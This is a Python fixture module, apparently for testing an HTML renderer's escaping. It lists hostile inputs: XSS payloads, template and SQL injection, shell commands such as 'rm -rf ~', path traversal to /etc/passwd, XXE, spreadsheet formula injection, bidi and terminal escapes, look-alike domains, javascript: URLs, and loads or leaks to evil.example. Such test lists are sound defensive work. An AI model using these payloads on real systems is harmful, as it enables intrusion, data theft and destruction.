"""Texts that attack whoever reads them, as a page may carry them anywhere: each sets ``window.pwned`` where it runs."""

from __future__ import annotations

RUN = "window.pwned=1"
_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror='{RUN}'//",
    f"<img/src=`x`onerror={RUN}>",
    f'<IMG """><script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onloadstart={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN[7:]}></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.pdf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<form action=https://evil.example/><input name=q><button>Send</button></form>",
    f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>x</div>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "<a id=main href=x>clobbers</a><form name=getElementById></form>",
)
"""Elements that run, load, send or move the document."""
ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"x onclick={RUN} y",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"`onload={RUN}`",
    '" style="background:url(https://evil.example/a)" x="',
    f'" srcdoc="<script>{RUN}</script>',
    '" hidden data-copy="rm -rf ~" class="copy" id="first',
    '" data-filter data-row data-marks="overdue" role="button',
    '" target="_self" rel="opener',
    f"&quot; onmouseover=&quot;{RUN}",
    f'\x00" onmouseover\x00="{RUN}',
)
"""Ends of an attribute's value."""
ENDINGS = (
    f"--><script>{RUN}</script><!--",
    f"<!--<script>{RUN}",
    f"--!><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</script><script>{RUN}</script>",
    "</style><style>*{display:none}</style>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</pre><script>{RUN}</script>",
    f"</bdi></summary></details><script>{RUN}</script>",
    f"</main></body></html><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><script>{RUN}</script>&e;",
)
"""Ends of the element, comment or section around them."""
FOREIGN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN}></script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    "<svg><image href=https://evil.example/x.png></image></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math href=javascript:{RUN}>x</math>",
)
"""SVG and MathML, whose contents are parsed in another way."""
STYLES = (
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>a[href^='http']{background:url(https://evil.example/leak)}</style>",
    "</style><style>body{display:none}",
    f'<div style="width:expression({RUN})">x</div>',
    "<p style='position:fixed;inset:0;background:red;z-index:99'>Call 1-900-555-0100</p>",
    f"<xss style=animation-name:spin onanimationstart={RUN}>",
)
"""Style sheets and style attributes."""
TEMPLATES = (
    "{{ 7*7 }}{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% raw %}{% block main %}{# comment",
    "${7*7}#{7*7}<%= 7*7 %>@(7*7)",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(title)s %s %n {0.__class__} {title!r}",
    "`code` and ``code` <code>`",
    r"\u003cscript\u003e \x3cscript\x3e \74script\76",
)
"""Syntax of templates and format strings."""
JSON_LD = (
    f'</script><script>{RUN}</script>{{"@type":"MedicalClinic"',
    f'"}}</script><img src=x onerror={RUN}>',
    '","@type":"Person","name":"Mallory',
    "<!--<script>",
    r'\","url":"https://evil.example/',
    "\u2028window.pwned=1\u2029",
    '{"$ref": "file:///etc/passwd"}',
)
"""Ends of a string of structured data, or of the script element that holds them."""
CHARACTERS = (
    "\u202egnp.exe \u202d invoice",
    "user\u2066 // \u2069\u2066 admin\u2069",
    "\u202a\u202b\u202cembedded\u2067\u2068\u2069",
    "abc\u061cdef\u200eghi\u200fjkl",
    "nul\x00 backspace\x08\x08\x08 bell\x07 delete\x7f",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07\x1bPq\x1b\\ \x9b2J\x9d0;x\x9c",
    "\x80\x85\x8d\x90\x9f",
    "line\r\nline\x0bline\x0cline\u2028line\u2029line",
    "zero\u200bwidth\u200c joiner\u200d no-break\u2060 mark\ufeff soft\u00adhyphen",
    "\ud800 alone \udfff \udc00\ud800",
    "\ufffe\uffff\ufdd0\ufff9note\ufffa\ufffb",
    "tag\U000e0001\U000e0041\U000e0042 variation\ufe0f\U000e0100",
    "Z̷̢̛̺͚͓͈͙̯͇̖̈́̿̽́̐̋a̵͎͐l̶̯̈́g̷̰̓o̸͔͝" * 8,
)
"""Characters that turn a line round, drive a terminal, or cannot be encoded."""
LOOK_ALIKES = (
    "‹script›window.pwned=1‹/script›",
    "＜script＞window.pwned=1＜/script＞",
    "pаypal.com раурал",  # with Cyrillic letters
    "﹤img src=x onerror=window․pwned=1﹥",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "%00%0d%0aSet-Cookie: x=1",
)
"""Letters and encodings that somebody may turn into markup."""
CELLS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '"=1+1","x"\n=1+1',
    "；=1+1",
    "＝1+1",
)
"""Formulas of a spreadsheet."""
WRITINGS = (
    "Subject: x\r\nBcc: everybody@evil.example\r\n\r\nBody",
    f"[click](javascript:{RUN})",
    "![x](https://evil.example/x.png)",
    "# Heading\n\n> quote\n\n```html\n<script>\n```",
    "| a | b |\n|---|---|",
    "[bold red]markup[/] [link=https://evil.example]x[/link] :warning:",
    "::error file=x::message",
    "'; DROP TABLE findings; --",
    "$(touch /tmp/pwned) `touch /tmp/pwned`; rm -rf ~ && exit",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "https://evil.example#:~:text=a-,b,-c",
)
"""Headers, Markdown, commands and paths."""
LONG = (
    _WORD * 15,
    "W" * 5_000,
    "<" * 2_000,
    "a" * 300 + "<b>" + "&" * 300,
    "\u0645" * 500,
    "🦷" * 400,
    "👩\u200d⚕️" * 200,
)
"""Words that no line can break, and that a cut may hit in the middle."""
TEXTS = (
    *ELEMENTS, *ATTRIBUTES, *ENDINGS, *FOREIGN, *STYLES, *TEMPLATES, *JSON_LD, *CHARACTERS, *LOOK_ALIKES, *CELLS,
    *WRITINGS, *LONG,
)  # fmt: skip

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://clinic.example/",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://clinic.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "blob:https://clinic.example/0f1e",
    f"view-source:javascript:{RUN}",
    "feed:https://clinic.example/",
    "intent://x#Intent;scheme=http;end",
    "mailto:x@evil.example?bcc=y",
    "ftp://evil.example/",
    "//evil.example/",
    "\\\\evil.example\\share",
    "https:\\\\evil.example/",
    "https://clinic.example@evil.example/",
    "https://clinic.example\\@evil.example/",
    "https://user:pass@clinic.example/",
    "https:///evil.example",
    "https://[::1",
    "https://clinic.example:99999/",
    "https://clinic.example/\x00\x1b[31m",
    "",
)
"""Addresses that may be no link."""
ODD_URLS = (
    f'https://clinic.example/"><script>{RUN}</script>',
    f"https://clinic.example/' onmouseover='{RUN}",
    "https://clinic.example/\u202egpj.exe\u2066",
    "https://clіnic.example/",  # with a Ukrainian letter
    "https://clinic.example/?q=<img src=x onerror=window.pwned=1>".replace(" ", "%20"),
    "https://clinic.example/#:~:text=evil&x",
    'https://clinic.example/#"><svg/onload=window.pwned=1>',
    "https://clinic.example/{{7*7}}/%3Cscript%3E/`/|/^/\ud800",
    "https://clinic.example/" + "very-long-" * 200,
    "HTTPS://CLINIC.EXAMPLE/javascript:x",
    "https://xn--80ak6aa92e.example/",
)
"""Addresses that may be a link, once they are encoded."""
